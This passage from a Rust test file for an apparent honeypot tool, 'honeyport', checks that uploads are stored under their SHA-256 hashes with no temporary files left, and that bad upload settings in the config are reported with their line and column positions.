    assert_eq!(std::fs::read(up.join(sha256_hex(kept))).unwrap(), kept);
    assert_eq!(std::fs::read(up.join(sha256_hex(&small))).unwrap(), small);
    let mut names: Vec<_> = std::fs::read_dir(&up)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let mut want = vec![sha256_hex(kept), sha256_hex(&small)];
    want.sort();
    assert_eq!(names, want, "no temporary files left");
}

#[test]
fn upload_config_mistakes_are_reported() {
    let src = "[personas.s]\ntype = \"ssh\"\nmax_upload = \"2GiB\"\n[personas.t]\n\
               type = \"ssh\"\nmax_upload = \"lots\"\n";
    let err = match honeyport::config::validate_str(src, "t.toml", Path::new(".")) {
        Ok(_) => panic!("accepted"),
        Err(e) => e.to_string(),
    };
    for want in ["3:14: personas.s.max_upload", "6:14: personas.t.max_upload"] {
        assert!(err.contains(want), "{want} not in {err}");
    }
    let src = "[personas.s]\ntype = \"ssh\"\nstore_uploads = \"yes\"\n";
    let err = match honeyport::config::validate_str(src, "t.toml", Path::new(".")) {
        Ok(_) => panic!("accepted"),
        Err(e) => e.to_string(),
    };
    assert!(err.contains("3:17"), "{err}");
}
